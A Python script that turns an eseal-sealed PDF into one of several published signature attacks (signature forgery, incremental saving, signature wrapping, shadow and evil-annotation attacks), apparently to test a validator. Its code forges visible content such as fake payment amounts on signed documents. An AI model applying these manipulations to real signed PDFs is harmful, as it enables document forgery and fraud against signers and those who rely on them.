#!/usr/bin/python3
"""make-attack.py IN OUT CLASS: build one published attack on a signed PDF
from IN (a file eseal sealed) into OUT, the way the papers describe them:

  PDF Insecurity (Mladenov et al., CCS 2019)
    usf-zero-contents    Universal Signature Forgery: /Contents overwritten with
                         zeros in place (no signature value left)
    usf-no-byterange     ... /ByteRange overwritten with spaces in place
    usf-null-contents    ... a revision redefines the signature dictionary with
                         /Contents null, and changes the page
    isa-no-xref          Incremental Saving Attack: changed page objects and a
                         trailer appended without a cross-reference section
    swa                  Signature Wrapping: a revision redefines the signature
                         dictionary with a /ByteRange whose gap holds new objects
  Shadow attacks (Mainka et al., NDSS 2021); IN made with the prep-shadow class
    prep-shadow          (not an attack: run before sealing) page 1 draws a
                         hidden text under a white cover, a text field Amount
                         shows 100, and an unused second catalog shows a page
                         that says something else
    shadow-hide          the cover's content stream emptied in a revision
    shadow-replace       the field Amount's value and appearance replaced
    shadow-hide-replace  a revision with no objects whose trailer /Root names the
                         unused catalog
  Evil Annotation (Rohlmann et al., IEEE S&P 2021)
    eaa-freetext         a FreeText annotation with a white box over the text
    eaa-note             benign twin: a sticky note (/Text annotation)

pikepdf only reads IN; every change is written byte by byte. IN's last
cross-reference section must be a table (7.5.4).
"""
import re
import sys

import pikepdf

from pdf_syntax import text, entries, dictionary, stream


def last_xref(data):
    starts = list(re.finditer(rb"startxref\s+(\d+)\s+%%EOF", data))
    prev = int(starts[-1].group(1))
    if data[prev:prev + 4] != b"xref":
        raise SystemExit("make-attack: last xref section is not a table")
    return prev


def append(data, objects, size, trailer, prev, with_xref=True):
    """An incremental update: objects {num: bytes}, a table and a trailer."""
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num, body in sorted(objects.items()):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + (body if isinstance(body, bytes) else body.encode("latin-1")) + b"\nendobj\n"
    xref = len(out)
    if with_xref:
        out += b"xref\n"
        for num, at in sorted(offsets.items()):
            out += b"%d 1\n%010d 00000 n\r\n" % (num, at)
        if not offsets:
            out += b"0 0\n"
    out += ("trailer\n<< /Size %d %s /Prev %d >>\n" % (size, " ".join(trailer), prev)).encode("latin-1")
    # Without a section, startxref names the old one: a strict reader sees no new revision.
    out += b"startxref\n%d\n%%%%EOF\n" % (xref if with_xref else prev)
    return bytes(out)


def trailer_of(pdf, root=None):
    items = []
    for key in ("/Root", "/Info", "/ID"):
        if key == "/Root" and root is not None:
            items.append("/Root " + root)
        elif key in pdf.trailer:
            items.append("%s %s" % (key, text(pdf.trailer.get(key))))
    return items


def signature_dict(pdf):
    for f in pdf.Root.AcroForm.Fields:
        v = f.get("/V")
        if f.get("/FT") == "/Sig" and v is not None:
            return v
    raise SystemExit("make-attack: no signature in the file")


def page_with_red_box(pdf, objects, num):
    """Page 1 redefined to also paint a red box (a visible change)."""
    page = pdf.pages[0].obj
    pe = entries(page)
    contents = page.get("/Contents")
    old = [] if contents is None else [text(c) for c in contents] if isinstance(contents, pikepdf.Array) else [
        text(contents)]
    objects[num] = stream(b"q 0.9 0.1 0.1 rg 120 420 160 60 re f Q")
    pe["/Contents"] = "[" + " ".join(old + ["%d 0 R" % num]) + "]"
    objects[page.objgen[0]] = dictionary(pe).encode("latin-1")


def form_xobject(draw, w=400, h=40):
    return stream(draw, " /Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /Helv << "
                  "/Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>" % (w, h))


def main() -> int:
    if len(sys.argv) != 4:
        print(__doc__, file=sys.stderr)
        return 2
    src, dst, kind = sys.argv[1:]
    data = open(src, "rb").read()

    if kind in ("usf-zero-contents", "usf-no-byterange"):
        m = list(re.finditer(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))[-1]
        a, b = int(m.group(1)), int(m.group(2))
        out = bytearray(data)
        if kind == "usf-zero-contents":
            out[a + 1:b - 1] = b"0" * (b - a - 2)
        else:
            out[m.start():m.end()] = b" " * (m.end() - m.start())
        open(dst, "wb").write(bytes(out))
        return 0

    prev = last_xref(data)
    with pikepdf.open(src) as pdf:
        size = int(pdf.trailer.Size)
        objects = {}
        root = None
        with_xref = True
        if kind in ("usf-null-contents", "swa"):
            sig = signature_dict(pdf)
            se = entries(sig)
            if kind == "usf-null-contents":
                se["/Contents"] = "null"
            else:
                # The gap now runs past the hex string over the new objects.
                m = list(re.finditer(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))[-1]
                a, b = int(m.group(1)), int(m.group(2))
                se["/ByteRange"] = "[0 %d %d %d]" % (a, b + 200, len(data) - b - 200)
                se.pop("/Contents", None)
                se["/Contents"] = "<" + data[a + 1:b - 1].decode("latin-1") + ">"
            objects[sig.objgen[0]] = dictionary(se).encode("latin-1")
            page_with_red_box(pdf, objects, size)
            size += 1
        elif kind == "isa-no-xref":
            page_with_red_box(pdf, objects, size)
            size += 1
            with_xref = False
        elif kind == "prep-shadow":
            page = pdf.pages[0].obj
            pe = entries(page)
            res = page.Resources
            re_ = entries(res)
            xobj = entries(res.XObject) if "/XObject" in res else {}
            hidden, cover, draw, field, ap = size, size + 1, size + 2, size + 3, size + 4
            pages2, page2, content2, root2 = size + 5, size + 6, size + 7, size + 8
            size += 9
            objects[hidden] = form_xobject(b"BT 0 0 0 rg /Helv 24 Tf 4 10 Td (We owe you 1,000,000 EUR) Tj ET")
            objects[cover] = form_xobject(b"1 1 1 rg 0 0 400 40 re f")
            objects[draw] = stream(b"q 1 0 0 1 100 300 cm /EsHidden Do /EsCover Do Q")
            xobj["/EsHidden"] = "%d 0 R" % hidden
            xobj["/EsCover"] = "%d 0 R" % cover
            re_["/XObject"] = dictionary(xobj)
            pe["/Resources"] = dictionary(re_)
            contents = page.get("/Contents")
            old = [text(c) for c in contents] if isinstance(contents, pikepdf.Array) else [text(contents)]
            pe["/Contents"] = "[" + " ".join(old + ["%d 0 R" % draw]) + "]"
            annots = [text(x) for x in page.get("/Annots", [])]
            pe["/Annots"] = "[" + " ".join(annots + ["%d 0 R" % field]) + "]"
            objects[page.objgen[0]] = dictionary(pe).encode("latin-1")
            objects[ap] = form_xobject(b"/Tx BMC BT 0 0 0 rg /Helv 14 Tf 4 12 Td (Amount: 100 EUR) Tj ET EMC",
                                       200, 40)
            objects[field] = ("<< /FT /Tx /T (Amount) /V (100 EUR) /DA (/Helv 14 Tf 0 g) /Type /Annot /Subtype "
                              "/Widget /Rect [100 200 300 240] /F 4 /P %s /AP << /N %d 0 R >> >>" %
                              (text(page), ap))
            catalog = entries(pdf.Root)
            acro = pdf.Root.get("/AcroForm")
            form = entries(acro) if acro is not None else {}
            flist = [text(x) for x in acro.get("/Fields", [])] if acro is not None else []
            form["/Fields"] = "[" + " ".join(flist + ["%d 0 R" % field]) + "]"
            form.setdefault("/DA", "(/Helv 0 Tf 0 g)")
            form["/DR"] = "<< /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
            catalog["/AcroForm"] = dictionary(form)
            objects[pdf.Root.objgen[0]] = dictionary(catalog).encode("latin-1")
            # The shadow document: unused until a trailer names its catalog.
            objects[content2] = stream(b"BT /Helv 24 Tf 72 720 Td (This letter was never written) Tj ET")
            objects[page2] = ("<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources "
                              "<< /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>" %
                              (pages2, content2))
            objects[pages2] = "<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page2
            objects[root2] = "<< /Type /Catalog /Pages %d 0 R >>" % pages2
        elif kind == "shadow-hide":
            cover = pdf.pages[0].obj.Resources.XObject.EsCover
            objects[cover.objgen[0]] = form_xobject(b"")
        elif kind == "shadow-replace":
            field = [f for f in pdf.Root.AcroForm.Fields if str(f.get("/T", "")) == "Amount"][0]
            fe = entries(field)
            fe["/V"] = "(1,000,000 EUR)"
            ap = size
            size += 1
            objects[ap] = form_xobject(b"/Tx BMC BT 0 0 0 rg /Helv 14 Tf 4 12 Td (Amount: 1,000,000 EUR) Tj ET EMC",
                                       200, 40)
            fe["/AP"] = "<< /N %d 0 R >>" % ap
            objects[field.objgen[0]] = dictionary(fe).encode("latin-1")
        elif kind == "shadow-hide-replace":
            shadow = [o for o in pdf.objects if isinstance(o, pikepdf.Dictionary) and o.get("/Type") == "/Catalog"
                      and o.objgen != pdf.Root.objgen]
            if not shadow:
                raise SystemExit("make-attack: no shadow catalog (make IN with prep-shadow)")
            root = "%d %d R" % shadow[0].objgen
        elif kind in ("eaa-freetext", "eaa-note"):
            page = pdf.pages[0].obj
            pe = entries(page)
            annot = size
            size += 1
            if kind == "eaa-freetext":
                ap = size
                size += 1
                objects[ap] = form_xobject(b"1 1 1 rg 0 0 400 120 re f BT 0 0 0 rg /Helv 16 Tf 8 60 Td "
                                           b"(Payment due: 9,000,000 EUR) Tj ET", 400, 120)
                objects[annot] = ("<< /Type /Annot /Subtype /FreeText /Rect [60 560 460 680] /Contents (Payment "
                                  "due: 9,000,000 EUR) /DA (/Helv 16 Tf 0 g) /F 4 /P %s /AP << /N %d 0 R >> >>" %
                                  (text(page), ap))
            else:
                objects[annot] = ("<< /Type /Annot /Subtype /Text /Rect [60 60 80 80] /Contents (checked) /P %s >>"
                                  % text(page))
            annots = page.get("/Annots")
            items = [] if annots is None else [text(x) for x in annots]
            listed = "[" + " ".join(items + ["%d 0 R" % annot]) + "]"
            if annots is not None and annots.is_indirect:
                objects[annots.objgen[0]] = listed
            else:
                pe["/Annots"] = listed
                objects[page.objgen[0]] = dictionary(pe).encode("latin-1")
        else:
            print("make-attack: unknown class " + kind, file=sys.stderr)
            return 2
        trailer = trailer_of(pdf, root)
    open(dst, "wb").write(append(data, objects, size, trailer, prev, with_xref))
    return 0


if __name__ == "__main__":
    sys.exit(main())
